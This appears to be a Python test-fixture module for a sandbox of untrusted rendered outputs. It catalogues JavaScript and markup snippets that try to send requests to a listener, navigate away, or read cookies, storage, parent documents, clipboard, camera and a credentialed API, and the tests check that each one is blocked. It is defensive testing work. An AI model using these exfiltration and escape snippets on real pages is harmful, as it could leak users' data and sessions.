"""What hostile outputs try, to get something out of the page: each way has its own listener.

Plain data: JavaScript and markup, with ``U`` for an address of the listener. ``test_hostile_outputs.py`` runs
them in outputs, where nothing may arrive, and in a page without any protection, where all must: a way that
does not work there would prove nothing.
"""

from __future__ import annotations

SENDING = {
    "fetch": "fetch(U, {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(U, {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'})",
    "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', U); x.send(); }",
    "websocket": "new WebSocket(U.replace('http', 'ws'))",
    "eventsource": "new EventSource(U)",
    "beacon": "navigator.sendBeacon(U, 'x')",
    "image": "new Image().src = U",
    "image-set": "put(`<div style=\"width:9px;height:9px;background:image-set(url('${U}') 1x)\"></div>`)",
    "css-background": "put(`<div style=\"width:9px;height:9px;background:url('${U}')\">x</div>`)",
    "css-cursor-list": "put(`<ul><li style=\"list-style-image:url('${U}')\">x</li></ul>`)",
    "css-mask": "put(`<div style=\"width:9px;height:9px;background:red;mask-image:url('${U}')\">x</div>`)",
    "css-import": "put(`<style>@import '${U}';</style>`)",
    "font": "put(`<style>@font-face{font-family:q;src:url('${U}')}</style><p style='font-family:q'>x</p>`)",
    "font-face": "new FontFace('r', `url('${U}')`).load().catch(() => 0)",
    "stylesheet": "put(`<link rel='stylesheet' href='${U}'>`)",
    "prefetch": "put(`<link rel='prefetch' href='${U}'>`)",
    "preload": "put(`<link rel='preload' as='image' href='${U}'>`)",
    "modulepreload": "put(`<link rel='modulepreload' href='${U}'>`)",
    "script": "{ const s = document.createElement('script'); s.src = U; document.body.append(s); }",
    "module": "import(U).catch(() => 0)",
    "frame": "put(`<iframe src='${U}'></iframe>`)",
    "object": "put(`<object data='${U}' type='text/html'></object>`)",
    "embed": "put(`<embed src='${U}' type='text/html'>`)",
    "video": "put(`<video src='${U}' preload='auto'></video>`)",
    "poster": "put(`<video poster='${U}'></video>`)",
    "audio": "new Audio(U).load()",
    "svg-image": "put(`<svg width='9' height='9'><image href='${U}' width='9' height='9'/></svg>`)",
    "input-image": "put(`<input type='image' src='${U}'>`)",
    "form-to-frame": (
        "put(`<iframe name='f1'></iframe><form target='f1' action='${U}'></form>`)"
        ".querySelector('form').submit()"
    ),
    "ping": "{ const a = put(`<a href='#x' ping='${U}'>x</a>`).querySelector('a'); a.click(); }",
    "worker": "new Worker(blob(`fetch('${U}', {mode: 'no-cors'})`))",
    "worker-import": "new Worker(blob(`try { importScripts('${U}') } catch {}`))",
    "worker-websocket": "new Worker(blob(`new WebSocket('${U.replace('http', 'ws')}')`))",
    "srcdoc": "inner(`<img src='${U}'>`)",
    "srcdoc-script": "inner(`<script>fetch('${U}', {mode: 'no-cors'})<\\/script>`)",
    "blank-frame": (
        "{ const f = put('<iframe></iframe>').querySelector('iframe');"
        " f.contentWindow.fetch(U, {mode: 'no-cors'}); new f.contentWindow.Image().src = U; }"
    ),
    "blob-frame": "put(`<iframe src='${blob(`<img src='${U}'>`, 'text/html')}'></iframe>`)",
    "data-frame": "put(`<iframe src=\"data:text/html,<img src='${U}'>\"></iframe>`)",
    "turn-tcp": "peer('turn:HOST?transport=tcp')",
    "base": "{ put(`<base href='${U}'>`); new Image().src = 'relative.png'; }",
}
"""Run together in one output. `put` adds markup, `inner` a nested document, `blob` makes a URL."""

NAVIGATING = {
    "location": "location = U",
    "assign": "location.assign(U)",
    "link": (
        "{ const a = put(`<a href='${U}'>x</a>`).querySelector('a');"
        " a.dispatchEvent(new MouseEvent('click')); }"
    ),
    "detached-link": "{ const a = document.createElement('a'); a.href = U; a.click(); }",
    "refresh": "put(`<meta http-equiv='refresh' content='0;url=${U}'>`)",
    "form": "{ put(`<form action='${U}'></form>`).querySelector('form').submit(); }",
    "top": "top.location = U",
    "top-form": "{ put(`<form target='_top' action='${U}'></form>`).querySelector('form').submit(); }",
    "parent": "parent.location.replace(U)",
    "window": "window.open(U)",
    "blank-link": "{ const a = document.createElement('a'); a.href = U; a.target = '_blank'; a.click(); }",
}
"""Each in an output of its own: it leads away from the others."""

PRELUDE = """
const put = (markup) => {
  const place = document.createElement("div");
  place.innerHTML = markup;
  document.body.append(place);
  return place;
};
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const inner = (markup) => {
  const nested = document.createElement("iframe");
  nested.srcdoc = markup;
  document.body.append(nested);
};
const peer = (url, window = globalThis) => {
  const given = { iceServers: [{ urls: url, username: "u", credential: "c" }] };
  const made = new window.RTCPeerConnection(given);
  made.createDataChannel("x");
  made.createOffer().then((offer) => made.setLocalDescription(offer));
  globalThis.peers = [...(globalThis.peers || []), made];
};
const attempt = (name, U, code) => {
  try { new Function("U", "put", "blob", "inner", "peer", code)(U, put, blob, inner, peer); }
  catch (error) { (globalThis.thrown ??= {})[name] = String(error); }
};
"""

READING = {
    "cookie": "document.cookie",
    "local storage": "localStorage.length",
    "session storage": "sessionStorage.length",
    "databases": "indexedDB.open('x')",
    "caches": "caches.keys()",
    "parent's document": "parent.document.body",
    "top's document": "top.document.cookie",
    "top's address": "top.location.href",
    "parent's storage": "parent.localStorage.length",
    "a property of the page": "parent.fetch",
    "another output": "parent.frames[0] === window ? parent.frames[1].document : parent.frames[0].document",
    "the frame's element": "frameElement.ownerDocument",
    "service workers": "navigator.serviceWorker.register('x.js')",
    "shared workers": "new SharedWorker(URL.createObjectURL(new Blob([''])))",
    "full screen": "document.documentElement.requestFullscreen()",
    "the pointer": "document.documentElement.requestPointerLock()",
    "position": "new Promise((_, no) => navigator.geolocation.getCurrentPosition(_, no))",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "the clipboard": "navigator.clipboard.readText()",
    "the API": "fetch(new URL('../v1/me', location), {credentials: 'include'})",
    "the API, blindly": (
        "fetch(new URL('../v1/sessions', location),"
        " {credentials: 'include', mode: 'no-cors', method: 'POST', body: '{}'})"
    ),
}
"""Expressions that must throw, or be promises that are refused."""


def script(attempts: dict[str, tuple[str, str]]) -> str:
    """JavaScript that tries each: by name, an address and what to do with it."""
    calls = [
        f"attempt({name!r}, {url!r}, {code.replace('HOST', url.removeprefix('http://').split('/')[0])!r});"
        for name, (url, code) in attempts.items()
    ]
    return "\n".join([PRELUDE, *calls])
